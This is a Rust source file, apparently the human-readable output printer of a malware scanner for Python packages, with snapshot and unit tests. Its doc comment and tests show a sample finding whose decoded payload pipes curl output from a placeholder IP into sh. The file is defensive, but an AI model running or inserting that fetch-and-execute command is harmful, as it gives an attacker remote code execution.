//! The human printer: one block per artifact, verdict first, then the
//! evidence chain and each finding with its code excerpt, like a compiler
//! diagnostic:
//!
//! ```text
//! dist/evil-1.0.tar.gz  MALICIOUS 99/100  evil 1.0
//!   evidence:
//!     - evil-1.0/setup.py:4 (at install time): exec() runs a base64-decoded payload
//!
//!   critical  AY104 exec-decoded-payload  evil-1.0/setup.py:4  (install)
//!     exec() runs a base64-decoded payload
//!      4 | exec(base64.b64decode(PAYLOAD))
//!     decoded: import os\nos.system('curl -s http://203.0.113.7/x | sh')
//!
//! 1 artifact: 1 malicious, 0 suspicious, 0 clean, 0 errors
//! ```
//!
//! Every piece of text that comes from a package (paths, messages, excerpts,
//! decoded values, names) has its control characters escaped, so a hostile
//! package cannot drive the terminal.

use std::fmt::Display;
use std::io::{self, Write};

use owo_colors::{OwoColorize, Style};

use super::{Level, Summary, escape_controls, message_with_via, printable, variant_name};
use crate::finding::{Finding, Severity};
use crate::scan::ArtifactReport;
use crate::verdict::VerdictLabel;

/// Longest decoded value shown, in characters.
const DECODED_WIDTH: usize = 100;

/// How much the human printer says.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum Verbosity {
    /// Only artifacts that need attention (not clean, or not fully scanned);
    /// no summary line.
    Quiet,
    /// Every artifact; clean ones on one line each.
    #[default]
    Normal,
    /// Every artifact in full, with sizes, hashes and any low-weight findings
    /// of clean artifacts.
    Verbose,
}

/// Options for [`write`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct HumanOptions {
    /// Emit ANSI colour codes. Off by default: the caller decides whether
    /// the destination is a terminal.
    pub color: bool,
    pub verbosity: Verbosity,
}

/// Writes the reports for people to read.
pub fn write(
    out: &mut impl Write,
    reports: &[ArtifactReport],
    options: &HumanOptions,
) -> io::Result<()> {
    let printer = Printer {
        paint: Paint {
            color: options.color,
        },
        verbosity: options.verbosity,
    };
    // Detailed blocks are set apart by blank lines; one-line artifacts
    // (clean, in normal verbosity) follow each other.
    let mut last = Shown::Nothing;
    for report in reports {
        let shown = printer.shown(report);
        if shown == Shown::Block && last == Shown::Line {
            writeln!(out)?;
        }
        printer.artifact(out, report, shown)?;
        if shown != Shown::Nothing {
            last = shown;
        }
    }
    if options.verbosity != Verbosity::Quiet {
        if last == Shown::Line {
            writeln!(out)?;
        }
        printer.summary(out, &Summary::of(reports))?;
    }
    Ok(())
}

/// How much of one artifact is shown.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Shown {
    Nothing,
    /// The header line alone.
    Line,
    /// The header and the details, then a blank line.
    Block,
}

struct Printer {
    paint: Paint,
    verbosity: Verbosity,
}

impl Printer {
    fn shown(&self, report: &ArtifactReport) -> Shown {
        let clean = report.verdict.as_ref().map(|v| v.label) == Some(VerdictLabel::Clean);
        let noted = report
            .provenance
            .as_ref()
            .is_some_and(|p| !p.notes.is_empty());
        let needs_attention = !clean || !report.errors.is_empty() || noted;
        match self.verbosity {
            _ if needs_attention => Shown::Block,
            Verbosity::Quiet => Shown::Nothing,
            Verbosity::Normal => Shown::Line,
            Verbosity::Verbose => Shown::Block,
        }
    }

    fn artifact(
        &self,
        out: &mut impl Write,
        report: &ArtifactReport,
        shown: Shown,
    ) -> io::Result<()> {
        if shown == Shown::Nothing {
            return Ok(());
        }
        self.header(out, report)?;
        if shown == Shown::Line {
            return Ok(());
        }

        if self.verbosity == Verbosity::Verbose && report.verdict.is_some() {
            self.stats(out, report)?;
        }
        if let Some(provenance) = &report.provenance {
            for chain in &provenance.required_by {
                writeln!(
                    out,
                    "  {} {}",
                    self.paint.bold("required by:"),
                    escape_controls(chain)
                )?;
            }
            if self.verbosity == Verbosity::Verbose
                && let Some(url) = &provenance.url
            {
                writeln!(
                    out,
                    "  {} {}",
                    self.paint.bold("from:"),
                    escape_controls(url)
                )?;
            }
            for note in &provenance.notes {
                writeln!(
                    out,
                    "  {} {}",
                    self.paint.style("note:", Style::new().yellow().bold()),
                    escape_controls(note)
                )?;
            }
        }
        if let Some(verdict) = &report.verdict
            && !verdict.evidence.is_empty()
        {
            writeln!(out, "  {}", self.paint.bold("evidence:"))?;
            for line in &verdict.evidence {
                writeln!(out, "    - {}", escape_controls(line))?;
            }
        }
        // Low findings are capabilities, not evidence: only -v lists them.
        let (shown, hidden): (Indexed<'_>, Indexed<'_>) =
            report.findings.iter().enumerate().partition(|(_, f)| {
                self.verbosity == Verbosity::Verbose || f.severity > Severity::Low
            });
        for (index, finding) in &shown {
            writeln!(out)?;
            self.finding(out, finding)?;
            if let Some(suppression) = report.suppression_of(*index) {
                writeln!(
                    out,
                    "    {} {}",
                    self.paint
                        .dimmed(format!("suppressed ({}):", suppression.kind.as_str())),
                    escape_controls(&suppression.reason)
                )?;
            }
        }
        if !hidden.is_empty() {
            writeln!(out)?;
            writeln!(
                out,
                "  {}",
                self.paint.dimmed(format!(
                    "{} not shown (-v shows them)",
                    plural(hidden.len(), "low-severity finding")
                ))
            )?;
        }
        if !report.findings.is_empty() && !report.errors.is_empty() {
            writeln!(out)?;
        }
        for error in &report.errors {
            writeln!(
                out,
                "  {} {}",
                self.paint.style("error:", Style::new().red().bold()),
                escape_controls(error)
            )?;
        }
        writeln!(out)
    }

    /// `target  LABEL score/100  name version`; for installed artifacts
    /// `name version (installed, site-packages)  LABEL score/100`.
    fn header(&self, out: &mut impl Write, report: &ArtifactReport) -> io::Result<()> {
        let identity: Vec<String> = [&report.name, &report.version]
            .into_iter()
            .flatten()
            .map(|s| printable(s, 80))
            .collect();
        if let Some(installed) = &report.installed {
            let site = escape_controls(&installed.site_packages.to_string_lossy());
            let title = match &installed.metadata_dir {
                Some(_) => format!("{} (installed, {site})", identity.join(" ")),
                None => format!(
                    "unowned files in {site} (site-packages {})",
                    installed.located_by.describe()
                ),
            };
            write!(out, "{}  ", self.paint.bold(title))?;
            self.label(out, report)?;
            return writeln!(out);
        }
        let target = escape_controls(&report.target.to_string_lossy());
        write!(out, "{}  ", self.paint.bold(target))?;
        self.label(out, report)?;
        if !identity.is_empty() {
            write!(out, "  {}", identity.join(" "))?;
        }
        writeln!(out)
    }

    /// `LABEL score/100`, or `NOT SCANNED`.
    fn label(&self, out: &mut impl Write, report: &ArtifactReport) -> io::Result<()> {
        match &report.verdict {
            Some(verdict) => {
                let style = match verdict.label {
                    VerdictLabel::Malicious => Style::new().red().bold(),
                    VerdictLabel::Suspicious => Style::new().yellow().bold(),
                    VerdictLabel::Clean => Style::new().green().bold(),
                };
                let label = verdict.label.as_str().to_ascii_uppercase();
                write!(
                    out,
                    "{} {}/100",
                    self.paint.style(label, style),
                    verdict.score
                )?;
            }
            None => write!(
                out,
                "{}",
                self.paint.style("NOT SCANNED", Style::new().red().bold())
            )?,
        }
        Ok(())
    }

    fn stats(&self, out: &mut impl Write, report: &ArtifactReport) -> io::Result<()> {
        let stats = &report.stats;
        let mut parts = Vec::new();
        if let Some(kind) = report.kind {
            parts.push(variant_name(&kind));
        }
        if let Some(size) = report.size {
            parts.push(format!("{size} bytes"));
        }
        parts.push(format!(
            "{} files, {} Python ({} bytes)",
            stats.files, stats.python_files, stats.python_bytes
        ));
        if let Some(sha256) = &report.sha256 {
            parts.push(format!("sha256 {}", printable(sha256, 64)));
        }
        if let Some(installed) = &report.installed {
            if let Some(dir) = &installed.metadata_dir {
                parts.push(format!("metadata {}", printable(dir, 80)));
            }
            parts.push(format!(
                "site-packages {}, prefix {}",
                installed.located_by.describe(),
                escape_controls(&installed.prefix.to_string_lossy())
            ));
        }
        writeln!(out, "  {}", self.paint.dimmed(parts.join(", ")))
    }

    /// ```text
    ///   critical  AY104 exec-decoded-payload  setup.py:4  (install)
    ///     message
    ///      4 | excerpt
    ///     decoded: value
    /// ```
    fn finding(&self, out: &mut impl Write, finding: &Finding) -> io::Result<()> {
        let level_style = match Level::of(finding.severity) {
            Level::Error => Style::new().red(),
            Level::Warning => Style::new().yellow(),
            Level::Note => Style::new().cyan(),
        };
        let severity = format!("{:<8}", finding.severity.as_str());
        write!(
            out,
            "  {}  {} {}",
            self.paint.style(severity, level_style.bold()),
            self.paint.bold(finding.rule),
            finding.slug,
        )?;
        // Findings about the whole artifact have no path.
        if !finding.location.path.is_empty() {
            write!(out, "  {}", escape_controls(&finding.location.to_string()))?;
        }
        if let Some(context) = finding.context {
            write!(out, "  ({})", context.as_str())?;
        }
        writeln!(out)?;
        writeln!(out, "    {}", escape_controls(&message_with_via(finding)))?;

        if let Some(excerpt) = &finding.excerpt {
            let first = finding.location.line;
            let lines: Vec<&str> = excerpt.lines().collect();
            let last_number = first.map(|l| l as usize + lines.len().saturating_sub(1));
            let width = last_number.map_or(0, |n| n.to_string().len());
            for (i, line) in lines.iter().enumerate() {
                let number = first.map_or(String::new(), |l| (l as usize + i).to_string());
                let gutter = format!("{number:>width$} |");
                writeln!(
                    out,
                    "    {} {}",
                    self.paint.style(gutter, Style::new().blue().bold()),
                    escape_controls(line)
                )?;
            }
        }
        if let Some(decoded) = &finding.decoded {
            writeln!(
                out,
                "    {} {}",
                self.paint.style(
                    format!("{}:", finding.value_kind.label()),
                    Style::new().magenta()
                ),
                printable(decoded, DECODED_WIDTH)
            )?;
        }
        Ok(())
    }

    /// `N artifacts: X malicious, Y suspicious, Z clean, E errors`
    fn summary(&self, out: &mut impl Write, summary: &Summary) -> io::Result<()> {
        let line = format!(
            "{}: {} malicious, {} suspicious, {} clean, {}",
            plural(summary.artifacts, "artifact"),
            summary.malicious,
            summary.suspicious,
            summary.clean,
            plural(summary.errors, "error"),
        );
        writeln!(out, "{}", self.paint.bold(line))?;
        if summary.artifacts > 0 {
            writeln!(out, "{}", self.paint.dimmed(SCORE_EXPLAINED))?;
        }
        Ok(())
    }
}

/// What the `N/100` after a verdict means, under the summary.
pub const SCORE_EXPLAINED: &str =
    "score: weight of the evidence found, 0-100 (70 and up is suspicious, 90 and up malicious)";

/// Findings with their index in the report.
type Indexed<'a> = Vec<(usize, &'a Finding)>;

fn plural(count: usize, noun: &str) -> String {
    if count == 1 {
        format!("{count} {noun}")
    } else {
        format!("{count} {noun}s")
    }
}

/// Applies styles only when colour is on.
#[derive(Debug, Clone, Copy)]
struct Paint {
    color: bool,
}

impl Paint {
    fn style(&self, text: impl Display, style: Style) -> String {
        if self.color {
            text.style(style).to_string()
        } else {
            text.to_string()
        }
    }

    fn bold(&self, text: impl Display) -> String {
        self.style(text, Style::new().bold())
    }

    fn dimmed(&self, text: impl Display) -> String {
        self.style(text, Style::new().dimmed())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::fixtures;

    fn render(reports: &[ArtifactReport], options: HumanOptions) -> String {
        let mut out = Vec::new();
        write(&mut out, reports, &options).unwrap();
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn normal() {
        let text = render(&fixtures::reports(), HumanOptions::default());
        assert!(!text.contains('\u{1b}'), "no colour codes unless asked");
        insta::assert_snapshot!(text);
    }

    #[test]
    fn verbose() {
        let options = HumanOptions {
            verbosity: Verbosity::Verbose,
            ..HumanOptions::default()
        };
        insta::assert_snapshot!(render(&fixtures::reports(), options));
    }

    #[test]
    fn quiet_shows_only_what_needs_attention() {
        let options = HumanOptions {
            verbosity: Verbosity::Quiet,
            ..HumanOptions::default()
        };
        let text = render(&fixtures::reports(), options);
        assert!(!text.contains("CLEAN"));
        assert!(!text.contains("artifacts:"));
        assert!(text.contains("MALICIOUS"));
        assert!(text.contains("NOT SCANNED"));
    }

    #[test]
    fn values_are_labelled_by_what_they_are_not_all_decoded() {
        let text = render(&fixtures::reports(), HumanOptions::default());
        // The exec payload went through base64: decoded.
        assert!(text.contains("decoded: import os"), "{text}");
        let mut reports = fixtures::reports();
        let mut url = reports[0].findings[0].clone();
        url.set_value(
            crate::finding::ValueKind::Value,
            Some("https://203.0.113.7/x".to_owned()),
        );
        reports[0].findings = vec![url];
        let text = render(&reports, HumanOptions::default());
        assert!(text.contains("value: https://203.0.113.7/x"), "{text}");
        assert!(!text.contains("decoded:"), "{text}");
        let installed = render(&[fixtures::installed()], HumanOptions::default());
        assert!(
            installed.contains("hashes: expected sha256=AAAA"),
            "{installed}"
        );
    }

    #[test]
    fn colour_only_when_asked() {
        let options = HumanOptions {
            color: true,
            ..HumanOptions::default()
        };
        let text = render(&fixtures::reports(), options);
        assert!(text.contains("\u{1b}["));
        // The escape sequence inside the decoded payload is still escaped.
        assert!(text.contains("\\u{1b}[2J"));
    }

    #[test]
    fn no_line_ends_in_whitespace() {
        let mut reports = fixtures::reports();
        // A finding about the whole artifact has an empty path.
        let mut bomb = reports[0].findings[0].clone();
        bomb.location = crate::finding::Location::file("");
        bomb.context = None;
        reports[0].findings.push(bomb);
        for verbosity in [Verbosity::Quiet, Verbosity::Normal, Verbosity::Verbose] {
            let options = HumanOptions {
                verbosity,
                ..HumanOptions::default()
            };
            for line in render(&reports, options).lines() {
                assert_eq!(line, line.trim_end());
            }
        }
    }

    #[test]
    fn installed_distributions_are_named_with_their_site_packages() {
        let installed = fixtures::installed();
        let text = render(std::slice::from_ref(&installed), HumanOptions::default());
        let first = text.lines().next().unwrap();
        assert_eq!(
            first,
            "requests 2.32.3 (installed, /venv/lib/python3.12/site-packages)  SUSPICIOUS 70/100"
        );
        assert!(text.contains("installed file changed after install"));

        let mut unowned = installed;
        if let Some(origin) = unowned.installed.as_mut() {
            origin.metadata_dir = None;
        }
        unowned.name = None;
        unowned.version = None;
        let verbose = HumanOptions {
            verbosity: Verbosity::Verbose,
            ..HumanOptions::default()
        };
        let text = render(&[unowned], verbose);
        assert!(
            text.starts_with(
                "unowned files in /venv/lib/python3.12/site-packages \
                 (site-packages found from pyvenv.cfg)  SUSPICIOUS"
            ),
            "{text}"
        );
        assert!(text.contains("installed, 500 bytes"), "{text}");
        assert!(text.contains("prefix /venv"), "{text}");
    }

    #[test]
    fn empty_scan_has_a_summary() {
        let text = render(&[], HumanOptions::default());
        assert_eq!(
            text,
            "0 artifacts: 0 malicious, 0 suspicious, 0 clean, 0 errors\n"
        );
    }
}
